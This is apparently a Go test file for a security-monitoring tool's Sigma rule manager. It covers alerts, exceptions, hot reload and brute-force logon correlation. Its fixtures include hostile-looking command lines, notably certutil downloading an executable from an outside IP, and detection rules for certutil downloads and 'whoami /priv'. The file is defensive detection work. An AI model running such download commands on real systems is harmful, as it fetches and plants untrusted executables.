package rules

import (
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/vigil-soc/vigil/internal/parse/winlog"
	"github.com/vigil-soc/vigil/internal/schema"
)

const certutilRule = `title: Test Certutil Download
id: 11111111-2222-3333-4444-555555555555
status: test
level: high
tags: [attack.command_and_control, attack.t1105]
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains|all: ['urlcache', 'http']
  condition: selection
`

func sysmon1(t *testing.T, host, image, cmd string) schema.Event {
	t.Helper()
	doc := `{"@timestamp":"2026-11-19T10:00:00.000Z","host":{"name":"` + host + `"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational",` +
		`"event_id":"1","provider_name":"Microsoft-Windows-Sysmon","computer_name":"` + host + `","record_id":7,` +
		`"event_data":{"Image":` + quote(image) + `,"CommandLine":` + quote(cmd) + `,"User":"CORP\\alice","ParentImage":"C:\\Windows\\explorer.exe"}}}`
	var ev schema.Event
	if err := winlog.MapWinlogbeat([]byte(doc), time.Now(), &ev); err != nil {
		t.Fatal(err)
	}
	ev.ID = 42
	return ev
}

func quote(s string) string {
	b := []byte{'"'}
	for _, c := range []byte(s) {
		if c == '\\' || c == '"' {
			b = append(b, '\\')
		}
		b = append(b, c)
	}
	return string(append(b, '"'))
}

func newManager(t *testing.T, cfg Config, rules map[string]string) *Manager {
	t.Helper()
	dir := t.TempDir()
	for name, body := range rules {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cfg.Dirs = append(cfg.Dirs, dir)
	m, err := NewManager(cfg, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func detectAll(m *Manager, evs []schema.Event) []schema.Alert {
	var out []schema.Alert
	m.Detect(evs, func(a schema.Alert) { out = append(out, a) })
	return out
}

func TestMatchBecomesAlert(t *testing.T) {
	t.Parallel()
	m := newManager(t, Config{}, map[string]string{"certutil.yml": certutilRule})
	bad := sysmon1(t, "ws-03", `C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe`)
	good := sysmon1(t, "ws-04", `C:\Windows\System32\certutil.exe`, `certutil.exe -hashfile a.exe SHA256`)
	alerts := detectAll(m, []schema.Event{good, bad})
	if len(alerts) != 1 {
		t.Fatalf("got %d alerts, want 1", len(alerts))
	}
	a := alerts[0]
	if a.Kind != schema.KindSigma || a.RuleID != "11111111-2222-3333-4444-555555555555" || a.Severity != schema.SeverityHigh ||
		a.Host != "ws-03" || a.User != "alice" || len(a.Tags) != 2 || a.EvidenceIDs[0] != 42 || !a.FirstSeen.Equal(bad.Timestamp) {
		t.Fatalf("alert %+v", a)
	}
	if st := m.Status(); st.Hits[a.RuleID] != 1 || st.Loaded != 1 {
		t.Fatalf("status %+v", st)
	}
}

func TestDisableFilters(t *testing.T) {
	t.Parallel()
	for _, f := range []Filter{
		{IDs: []string{"11111111-2222-3333-4444-555555555555"}},
		{Tags: []string{"attack.t1105"}},
		{Levels: []string{"high"}},
		{Paths: []string{"*/certutil.yml"}},
	} {
		m := newManager(t, Config{Disable: f}, map[string]string{"certutil.yml": certutilRule})
		if st := m.Status(); st.Loaded != 0 || st.Disabled != 1 {
			t.Fatalf("filter %+v: status %+v", f, st)
		}
	}
}

func TestExceptionsSuppressAndCount(t *testing.T) {
	t.Parallel()
	id := "11111111-2222-3333-4444-555555555555"
	cfg := Config{Exceptions: []Exception{
		{Rule: id, Where: map[string]string{"host.name": "WS-0?", "CommandLine": "*updates.corp.example*"},
			Owner: "alice", Reason: "patch tool uses certutil"},
		{Rule: id, Where: map[string]string{"host.name": "*"}, Owner: "bob", Reason: "expired",
			Expires: time.Now().Add(-time.Hour)},
	}}
	m := newManager(t, cfg, map[string]string{"certutil.yml": certutilRule})
	patch := sysmon1(t, "ws-05", `C:\Windows\System32\certutil.exe`, `certutil -urlcache -f http://updates.corp.example/p.msi p.msi`)
	attack := sysmon1(t, "ws-05", `C:\Windows\System32\certutil.exe`, `certutil -urlcache -f http://203.0.113.9/a.exe a.exe`)
	alerts := detectAll(m, []schema.Event{patch, attack})
	if len(alerts) != 1 || alerts[0].Host != "ws-05" {
		t.Fatalf("alerts %+v", alerts)
	}
	if st := m.Status(); st.Suppressed[id] != 1 || st.Hits[id] != 1 {
		t.Fatalf("status %+v", st)
	}
	_, err := NewManager(Config{Exceptions: []Exception{{Rule: "nope", Where: map[string]string{"a": "b"}}}},
		slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err == nil {
		t.Fatal("an exception without owner/reason for an unknown rule must be refused")
	}
}

func TestHotReload(t *testing.T) {
	t.Parallel()
	m := newManager(t, Config{}, map[string]string{"certutil.yml": certutilRule})
	dir := m.cfg.Dirs[0]
	if err := m.WatchOnce(); err != nil {
		t.Fatal(err)
	}
	second := `title: Whoami Priv
id: 99999999-2222-3333-4444-555555555555
status: test
level: medium
logsource: {category: process_creation, product: windows}
detection:
  selection: {Image|endswith: '\whoami.exe', CommandLine|contains: '/priv'}
  condition: selection
`
	if err := os.WriteFile(filepath.Join(dir, "whoami.yml"), []byte(second), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := m.WatchOnce(); err != nil {
		t.Fatal(err)
	}
	ev := sysmon1(t, "ws-01", `C:\Windows\System32\whoami.exe`, `whoami /priv`)
	if alerts := detectAll(m, []schema.Event{ev}); len(alerts) != 1 || alerts[0].Severity != schema.SeverityMedium {
		t.Fatalf("after reload: %+v", alerts)
	}
	if err := os.WriteFile(filepath.Join(dir, "broken.yml"), []byte("title: x\ndetection: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := m.WatchOnce(); err != nil {
		t.Fatal(err)
	}
	st := m.Status()
	if st.Loaded != 2 || len(st.Errors) == 0 || st.Errors[0].Line == 0 {
		t.Fatalf("a broken rule must be reported with its line and the others kept: %+v", st)
	}
}

func TestBuiltinPackLoads(t *testing.T) {
	t.Parallel()
	m, err := NewManager(Config{Builtin: true}, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	st := m.Status()
	if st.Loaded < 2800 {
		t.Fatalf("built-in pack: %d rules loaded, errors %v", st.Loaded, st.Errors)
	}
	ev := sysmon1(t, "ws-03", `C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`)
	if alerts := detectAll(m, []schema.Event{ev}); len(alerts) == 0 {
		t.Fatal("no SigmaHQ rule caught a certutil download")
	}
	t.Logf("built-in pack: %d loaded, %d unrouted, %d load errors", st.Loaded, st.Unrouted, len(st.Errors))
}

func TestWildcard(t *testing.T) {
	t.Parallel()
	cases := []struct {
		p, s string
		want bool
	}{
		{"*", "", true}, {"ws-0?", "ws-05", true}, {"ws-0?", "ws-10", false}, {"*corp*", "a.corp.b", true},
		{"c:\\windows\\*.exe", "c:\\windows\\a.exe", true}, {"a*b*c", "axxbyyc", true}, {"a*b*c", "axxbyy", false},
	}
	for _, c := range cases {
		if got := wildcard(c.p, c.s); got != c.want {
			t.Errorf("wildcard(%q, %q) = %v", c.p, c.s, got)
		}
	}
}

const failedLogonRule = `title: Failed Logon
id: 33333333-2222-3333-4444-555555555555
name: failed_logon
status: test
level: low
logsource: {product: windows, service: security}
detection:
  selection: {EventID: 4625}
  condition: selection
`

const bruteCorrelation = `title: Many Failed Logons From One Address
id: 44444444-2222-3333-4444-555555555555
status: test
level: high
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [IpAddress]
  timespan: 5m
  condition: {gte: 5}
`

func security4625(t *testing.T, ts time.Time, user, ip string, id uint64) schema.Event {
	t.Helper()
	doc := `{"@timestamp":"` + ts.Format(time.RFC3339) + `","winlog":{"channel":"Security","event_id":"4625",` +
		`"provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"dc-01","record_id":1,` +
		`"event_data":{"TargetUserName":"` + user + `","IpAddress":"` + ip + `","LogonType":"3"}}}`
	var ev schema.Event
	if err := winlog.MapWinlogbeat([]byte(doc), time.Now(), &ev); err != nil {
		t.Fatal(err)
	}
	ev.ID = id
	return ev
}

func TestCorrelationRulesRaiseTheirAlertsInEventTime(t *testing.T) {
	t.Parallel()
	m := newManager(t, Config{}, map[string]string{"failed.yml": failedLogonRule, "brute.yml": bruteCorrelation})
	t0 := time.Date(2026, 11, 18, 3, 0, 0, 0, time.UTC)
	var evs []schema.Event
	// Out of order inside the window, as a shipper may deliver them.
	for i, sec := range []int{40, 0, 20, 10, 30, 50} {
		evs = append(evs, security4625(t, t0.Add(time.Duration(sec)*time.Second), "user"+string(rune('a'+i)), "198.51.100.23", uint64(i+1)))
	}
	evs = append(evs, security4625(t, t0, "x", "203.0.113.1", 99)) // another address: one failure only
	alerts := detectAll(m, evs)
	if len(alerts) != 1 {
		t.Fatalf("got %d alerts, want the correlation's only (the base rule does not generate): %+v", len(alerts), alerts)
	}
	a := alerts[0]
	if a.RuleID != "44444444-2222-3333-4444-555555555555" || a.Severity != schema.SeverityHigh || a.Details["group.IpAddress"] != "198.51.100.23" {
		t.Fatalf("alert %+v", a)
	}
	if m.CorrelationStats().Groups == 0 {
		t.Fatal("correlation state not reported")
	}
}

// TestSetEnabled turns a rule off and on at run time.
func TestSetEnabled(t *testing.T) {
	t.Parallel()
	m, err := NewManager(Config{Builtin: true}, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	id := m.Rules()[0].ID
	before := m.Status().Loaded
	if err := m.SetEnabled(id, false); err != nil {
		t.Fatal(err)
	}
	if got := m.Status().Loaded; got != before-1 || !slices.Contains(m.DisabledIDs(), id) {
		t.Fatalf("after disabling: %d rules (was %d), disabled %v", got, before, m.DisabledIDs())
	}
	if err := m.SetEnabled(id, true); err != nil {
		t.Fatal(err)
	}
	if got := m.Status().Loaded; got != before || len(m.DisabledIDs()) != 0 {
		t.Fatalf("after enabling: %d rules, disabled %v", got, m.DisabledIDs())
	}
}
